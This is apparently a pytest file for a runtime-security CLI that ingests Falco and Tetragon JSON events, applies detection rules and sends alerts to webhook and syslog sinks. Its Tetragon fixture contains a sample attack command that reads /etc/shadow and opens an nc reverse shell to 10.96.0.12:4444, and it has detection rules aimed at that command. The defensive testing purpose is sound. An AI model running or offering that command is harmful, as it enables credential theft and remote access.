"""`runtime watch --source falco-json|tetragon-json --input FILE`, and the alert sinks (jsonl, webhook to a
real local HTTP server, syslog to a real UDP and unix-datagram listener), driven by the ingest sources.

The input lines follow the upstream shapes: Falco's JSON output (``json_output: true``: ``time rule priority
output output_fields source tags hostname``) and Tetragon's JSON export (``process_exec`` / ``process_exit``
/ ``process_kprobe`` with ``process``, ``parent``, ``function_name``, ``args``, https://tetragon.io/docs/
concepts/events/).  No root needed.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any, ClassVar

import pytest
from click.testing import CliRunner

import stockade.cli.runtime_cmds  # noqa: F401  (registers `runtime watch`)
from stockade.cli.rules_cmds import runtime
from stockade.errors import InputError
from tests.runtime.sensor.conftest import UPSTREAM

FALCO_RULES = str(UPSTREAM[0])
SHELL_ALERT = {
    "hostname": "node-1",
    "output": "2024-05-14T09:12:33.541286021+0000: Notice A shell was spawned in a container with an "
    "attached terminal | evt_type=execve user=root user_uid=0 user_loginuid=-1 process=bash "
    "proc_exepath=/usr/bin/bash "
    "parent=runc command=bash -il terminal=34816 exe_flags=EXE_LOWER_LAYER container_id=4f2b1c9d8e7a "
    "container_image=docker.io/library/nginx container_image_tag=1.25 container_name=web k8s_ns=shop "
    "k8s_pod_name=web-7d9c",
    "output_fields": {
        "container.id": "4f2b1c9d8e7a",
        "container.image.repository": "docker.io/library/nginx",
        "container.image.tag": "1.25",
        "container.name": "web",
        "evt.arg.flags": "EXE_LOWER_LAYER",
        "evt.time": 1715677953541286021,
        "evt.type": "execve",
        "k8s.ns.name": "shop",
        "k8s.pod.name": "web-7d9c",
        "proc.cmdline": "bash -il",
        "proc.exepath": "/usr/bin/bash",
        "proc.name": "bash",
        "proc.pname": "runc",
        "proc.tty": 34816,
        "user.loginuid": -1,
        "user.name": "root",
        "user.uid": 0,
    },
    "priority": "Notice",
    "rule": "Terminal shell in container",
    "source": "syscall",
    "tags": ["T1059", "container", "maturity_stable", "mitre_execution", "shell"],
    "time": "2024-05-14T09:12:33.541286021Z",
}
# the same shell, without a terminal: Falco would not have alerted, and the re-evaluation must not either
NO_TTY = json.loads(json.dumps(SHELL_ALERT))
NO_TTY["output_fields"]["proc.tty"] = 0

POD = {
    "namespace": "default",
    "name": "xwing",
    "container": {
        "id": "containerd://551e161c47d8ff0eb665438a7bcd5b4e3ef5a297282b40a92b7c77d6bd168eb3",
        "name": "spaceship",
        "image": {
            "id": "docker.io/tgraf/netperf@sha256:"
            "8e86f744bfea165fd4ce68caa05abc96500f40130b857773186401926af7e9e6",
            "name": "docker.io/tgraf/netperf:latest",
        },
        "start_time": "2023-10-06T21:52:41Z",
        "pid": 49,
    },
    "pod_labels": {"app.kubernetes.io/name": "xwing", "class": "xwing", "org": "alliance"},
    "workload": "xwing",
}


def _proc(pid: int, binary: str, arguments: str, **extra: Any) -> dict[str, Any]:
    return {
        "exec_id": "Z2tlLWpvaG4tNjMyLWRlZmF1bHQtcG9vbC03MDQxY2FjMC05czk1OjEzNTQ4Njc0MzIxMzczOjUyNjk5",
        "pid": pid,
        "uid": 0,
        "cwd": "/",
        "binary": binary,
        "arguments": arguments,
        "flags": "execve rootcwd clone",
        "start_time": "2023-10-06T22:03:57.700327580Z",
        "auid": 4294967295,
        "pod": POD,
        "docker": "551e161c47d8ff0eb665438a7bcd5b4",
        "parent_exec_id": "Z2tlLWpvaG4tNjMyLWRlZmF1bHQtcG9vbC03MDQxY2FjMC05czk1OjEzNTQ4NjcwODgzMjk5OjUyNjk5",
        "tid": pid,
        **extra,
    }


PARENT = _proc(52690, "/bin/bash", '-c "cat /etc/shadow; nc 10.96.0.12 4444 -e /bin/sh"')
TETRAGON = [
    {"process_exec": {"process": _proc(52699, "/usr/bin/cat", "/etc/shadow"), "parent": PARENT},
     "node_name": "gke-node-1", "time": "2023-10-06T22:03:57.700326678Z"},
    {"process_kprobe": {
        "process": _proc(52699, "/usr/bin/cat", "/etc/shadow"), "parent": PARENT,
        "function_name": "security_file_permission",
        "args": [{"file_arg": {"path": "/etc/shadow", "permission": "-rw-r-----"}}, {"int_arg": 4}],
        "return": {"int_arg": 0}, "action": "KPROBE_ACTION_POST", "policy_name": "file-monitoring-filtered",
        "return_action": "KPROBE_ACTION_POST"},
     "node_name": "gke-node-1", "time": "2023-10-06T22:03:57.701012117Z"},
    {"process_kprobe": {
        "process": _proc(52702, "/usr/bin/nc", "10.96.0.12 4444 -e /bin/sh"), "parent": PARENT,
        "function_name": "tcp_connect",
        "args": [{"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP",
                               "saddr": "10.244.0.7", "daddr": "10.96.0.12", "sport": 41826, "dport": 4444,
                               "cookie": "18446635532512314368", "state": "TCP_SYN_SENT"}}],
        "action": "KPROBE_ACTION_POST", "policy_name": "connect"},
     "node_name": "gke-node-1", "time": "2023-10-06T22:03:58.100000000Z"},
    {"process_exit": {"process": _proc(52699, "/usr/bin/cat", "/etc/shadow"), "parent": PARENT,
                      "signal": "", "status": 0, "time": "2023-10-06T22:03:57.702Z"},
     "node_name": "gke-node-1", "time": "2023-10-06T22:03:57.702000000Z"},
]  # fmt: skip

TEST_RULES = """
- rule: stk ingest cat shadow
  desc: test rule over ingested events
  condition: evt.type = execve and proc.name = cat and proc.args contains /etc/shadow
  output: >
    ingest cat (cmd=%proc.cmdline parent=%proc.pname container=%container.id image=%container.image
    ns=%k8s.ns.name pod=%k8s.pod.name)
  priority: WARNING
- rule: stk ingest shadow open
  desc: test rule over ingested kprobes
  condition: evt.type = openat and fd.name = /etc/shadow
  output: ingest open (file=%fd.name proc=%proc.name container=%container.id)
  priority: WARNING
- rule: stk ingest connect
  desc: test rule over ingested tcp_connect
  condition: evt.type = connect and fd.sport = 4444 and fd.l4proto = tcp
  output: ingest connect (proc=%proc.name ip=%fd.sip port=%fd.sport from=%fd.cip)
  priority: NOTICE
"""


def _lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(x) for x in path.read_text(encoding="utf-8").splitlines() if x.strip()]


def _watch(args: list[str]) -> tuple[int, str]:
    result = CliRunner().invoke(runtime, ["watch", *args])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.stderr


def _status(stderr: str) -> dict[str, Any]:
    line = next(x for x in stderr.splitlines() if x.startswith("stockade: status "))
    data: dict[str, Any] = json.loads(line[len("stockade: status ") :])
    return data


def test_falco_json_ingest(tmp_path: Path) -> None:
    src = tmp_path / "falco.jsonl"
    src.write_text(
        "\n".join([json.dumps(SHELL_ALERT), json.dumps(NO_TTY), "{not json", json.dumps({"rule": "x"})])
        + "\n"
    )
    out = tmp_path / "alerts.jsonl"
    code, err = _watch(
        ["--source", "falco-json", "--input", str(src), "--rules", FALCO_RULES, "--output", f"jsonl:{out}"]
    )
    assert code == 0, err
    assert "source falco-json ready" in err and "cannot see: events Falco did not alert on" in err
    alerts = _lines(out)
    assert [a["rule"] for a in alerts] == ["Terminal shell in container"]
    of = alerts[0]["output_fields"]
    assert of["proc.name"] == "bash" and of["proc.tty"] == 34816 and of["evt.arg.flags"] == "EXE_LOWER_LAYER"
    assert alerts[0]["time"] == "2024-05-14T09:12:33.541286021Z"
    status = _status(err)
    assert status["events"] == 2 and status["malformed"] == 2 and status["alerts"] == 1


def test_tetragon_json_ingest(tmp_path: Path) -> None:
    src = tmp_path / "tetragon.jsonl"
    src.write_text("".join(json.dumps(x) + "\n" for x in TETRAGON) + '{"process_kprobe": {}}\n')
    rules = tmp_path / "rules.yaml"
    rules.write_text(TEST_RULES)
    out = tmp_path / "alerts.jsonl"
    code, err = _watch(
        ["--source", "tetragon-json", "--input", str(src), "--rules", str(rules), "--output", f"jsonl:{out}"]
    )
    assert code == 0, err
    by_rule = {a["rule"]: a["output_fields"] for a in _lines(out)}
    assert set(by_rule) == {"stk ingest cat shadow", "stk ingest shadow open", "stk ingest connect"}
    cat = by_rule["stk ingest cat shadow"]
    assert cat["proc.cmdline"] == "cat /etc/shadow" and cat["proc.pname"] == "bash"
    assert (
        cat["container.id"] == "551e161c47d8" and cat["container.image"] == "docker.io/tgraf/netperf:latest"
    )
    assert cat["k8s.ns.name"] == "default" and cat["k8s.pod.name"] == "xwing"
    assert by_rule["stk ingest shadow open"] == {"fd.name": "/etc/shadow", "proc.name": "cat",
                                                 "container.id": "551e161c47d8"}  # fmt: skip
    conn = by_rule["stk ingest connect"]
    assert (conn["proc.name"], conn["fd.sip"], conn["fd.sport"], conn["fd.cip"]) == (
        "nc", "10.96.0.12", 4444, "10.244.0.7",
    )  # fmt: skip
    status = _status(err)
    assert status["events"] == 4 and status["malformed"] == 1


class _Hook(BaseHTTPRequestHandler):
    got: ClassVar[list[dict[str, Any]]] = []

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        type(self).got.append({"ctype": self.headers["Content-Type"], "body": json.loads(body)})
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def webhook() -> Iterator[tuple[str, list[dict[str, Any]]]]:
    _Hook.got = []
    srv = HTTPServer(("127.0.0.1", 0), _Hook)
    t = threading.Thread(target=srv.serve_forever, daemon=True)
    t.start()
    try:
        yield f"http://127.0.0.1:{srv.server_address[1]}/alerts", _Hook.got
    finally:
        srv.shutdown()
        srv.server_close()


def _collect(sock: socket.socket, into: list[bytes], n: int) -> threading.Thread:
    sock.settimeout(5)

    def run() -> None:
        try:
            while len(into) < n:
                into.append(sock.recv(65536))
        except OSError:
            return

    t = threading.Thread(target=run, daemon=True)
    t.start()
    return t


def test_sinks_webhook_jsonl_syslog(tmp_path: Path, webhook: tuple[str, list[dict[str, Any]]]) -> None:
    url, posted = webhook
    src = tmp_path / "falco.jsonl"
    src.write_text(json.dumps(SHELL_ALERT) + "\n" + json.dumps(SHELL_ALERT) + "\n")
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    short = Path(tempfile.mkdtemp(prefix="stk-log-"))
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    unix.bind(str(short / "log"))
    got_udp: list[bytes] = []
    got_unix: list[bytes] = []
    threads = [_collect(udp, got_udp, 2), _collect(unix, got_unix, 2)]
    out = tmp_path / "alerts.jsonl"
    code, err = _watch(
        [
            "--source", "falco-json", "--input", str(src), "--rules", FALCO_RULES,
            "--output", f"jsonl:{out}", "--output", f"webhook:{url}",
            "--output", f"syslog:udp://127.0.0.1:{udp.getsockname()[1]}",
            "--output", f"syslog:unix://{short / 'log'}",
        ]
    )  # fmt: skip
    assert code == 0, err
    for t in threads:
        t.join(6)
    udp.close()
    unix.close()
    os.unlink(short / "log")
    os.rmdir(short)
    jsonl = _lines(out)
    assert len(jsonl) == 2
    assert [p["body"] for p in posted] == jsonl
    assert {p["ctype"] for p in posted} == {"application/json"}
    for got in (got_udp, got_unix):
        assert len(got) == 2
        msg = got[0].decode()
        # RFC 3164: <PRI>Mmm dd hh:mm:ss HOST TAG[PID]: MSG; daemon (3) * 8 + notice (5) = 29
        assert msg.startswith("<29>"), msg
        head, _, body = msg.partition(": {")
        assert "stockade[" in head and socket.gethostname() in head
        assert json.loads("{" + body) == jsonl[0]


def test_bad_outputs_are_usage_errors(tmp_path: Path) -> None:
    src = tmp_path / "f.jsonl"
    src.write_text(json.dumps(SHELL_ALERT) + "\n")
    for bad in ("webhook:ftp://x", "syslog:tcp://1.2.3.4:514", "syslog:udp://nohostport", "email:x"):
        result = CliRunner().invoke(
            runtime, ["watch", "--source", "falco-json", "--input", str(src), "--output", bad]
        )
        assert isinstance(result.exception, InputError), (bad, result.exception)


def test_monitor_mode_counts_without_acting(tmp_path: Path) -> None:
    """--action without --respond: the process named in the alert is left alone, the would-be kill counted."""
    victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)"])
    try:
        alert = json.loads(json.dumps(SHELL_ALERT))
        alert["output_fields"]["proc.pid"] = victim.pid
        src = tmp_path / "f.jsonl"
        src.write_text(json.dumps(alert) + "\n")
        out = tmp_path / "alerts.jsonl"
        args = [
            "--source", "falco-json", "--input", str(src), "--rules", FALCO_RULES,
            "--output", f"jsonl:{out}", "--action", "Terminal shell in container=kill",
        ]  # fmt: skip
        code, err = _watch(args)
        assert code == 0, err
        assert victim.poll() is None, "monitor mode must not kill"
        status = _status(err)
        assert status["responses_would"] == {"kill": 1} and status["responses_done"] == {}
        resp = _lines(out)[0]["response"]
        assert resp["mode"] == "monitor" and resp["target"] == victim.pid and resp["action"] == "kill"
        logged = [x for x in err.splitlines() if x.startswith("stockade: response ")]
        assert (
            len(logged) == 1 and json.loads(logged[0][19:])["alert"]["rule"] == "Terminal shell in container"
        )
        # the same input with --respond enforces it
        code, err = _watch([*args, "--respond"])
        assert code == 0, err
        assert victim.wait(timeout=5) == -9
        assert _status(err)["responses_done"] == {"kill": 1}
    finally:
        if victim.poll() is None:
            victim.kill()
            victim.wait()


def test_an_alert_line_is_compact_sorted_json_and_survives_any_value() -> None:
    from stockade.runtime.sink.sinks import _line

    alert = {"rule": "r", "output_fields": {"proc.name": "café", "b": None, "a": [1, 2]}, "hostname": "h"}
    line = _line(alert)
    assert line == '{"hostname":"h","output_fields":{"a":[1,2],"b":null,"proc.name":"café"},"rule":"r"}'
    odd = {"big": 2**70, "when": Path("/x"), "z": 1}  # past 64 bits (orjson refuses): the stdlib way
    assert json.loads(_line(odd)) == {"big": 2**70, "when": "/x", "z": 1}
    assert "\n" not in _line({"s": "a\nb"})


class _SlowHook(_Hook):
    def do_POST(self) -> None:
        time.sleep(0.4)
        super().do_POST()


def test_a_slow_webhook_does_not_hold_up_the_sensor(monkeypatch: pytest.MonkeyPatch) -> None:
    """The webhook output posts from its own thread through a bounded queue: emitting 20 alerts to an
    endpoint that takes 0.4 s per POST returns at once; what the queue (5 here) cannot hold is dropped and
    counted; the end of the run waits WEBHOOK_CLOSE_WAIT at most and counts what it gave up."""
    from stockade.runtime.sink import sinks

    monkeypatch.setattr(sinks, "WEBHOOK_CLOSE_WAIT", 1.0)
    _Hook.got = []
    srv = HTTPServer(("127.0.0.1", 0), _SlowHook)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    try:
        sink = sinks.WebhookSink(f"http://127.0.0.1:{srv.server_address[1]}/a", timeout=2.0, capacity=5)
        t0 = time.monotonic()
        for i in range(20):
            sink.emit({"rule": "r", "n": i})
        assert time.monotonic() - t0 < 0.3
        assert 14 <= sink.dropped <= 15  # 20 less the queue's 5 and, perhaps, the one being posted
        t0 = time.monotonic()
        sink.close()
        assert time.monotonic() - t0 < 1.0 + 2.0 + 1.0
        assert sink.sent >= 2 and sink.failures == 0
        assert sink.sent + sink.dropped == 20  # every alert is either delivered or counted
        assert [g["body"]["n"] for g in _Hook.got] == list(range(sink.sent))
    finally:
        srv.shutdown()
        srv.server_close()
